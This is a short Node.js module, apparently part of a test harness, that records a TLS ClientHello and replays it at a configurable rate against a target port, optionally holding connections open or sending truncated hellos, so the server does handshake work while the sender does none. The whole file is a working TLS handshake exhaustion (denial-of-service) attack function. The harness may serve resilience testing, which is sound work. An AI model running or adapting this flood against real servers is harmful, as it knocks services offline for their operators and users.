// ClientHellos recorded once and said again: the server does the arithmetic of a handshake for each, the attacker none. With `stay` the
// connections are kept, otherwise they are gone at once; with `bytes` only so much of a ClientHello is said.
import { createServer } from 'node:net';
import { connect } from 'node:tls';

import { delay, drop, isOver, open } from './wire.mjs';

export function record() {
  return new Promise((done) => {
    const listener = createServer((socket) => {
      socket.on('error', () => {});
      socket.once('data', (bytes) => {
        socket.destroy();
        listener.close();
        done(bytes);
      });
    });
    listener.listen(0, '127.0.0.1', () => connect({ host: '127.0.0.1', port: listener.address().port, rejectUnauthorized: false }).on('error', () => {}));
  });
}

export async function attack({ ports, until, perSecond = 1_000, stay = false, most = 4_000, bytes }) {
  const hello = (await record()).subarray(0, bytes);
  const said = { hellos: 0 };
  const kept = [];
  const began = performance.now();
  while (!isOver(until)) {
    const due = Math.min(((performance.now() - began) / 1000) * perSecond - said.hellos, 200);
    for (let i = 0; i < due; ++i) {
      ++said.hellos;
      open(ports.output).then((socket) => {
        if (!socket) return;
        socket.write(hello);
        if (stay) kept.push(socket);
        else socket.end();
      });
    }
    while (kept.length > most) drop(kept.shift());
    await delay(5);
  }
  kept.forEach(drop);
  return said;
}
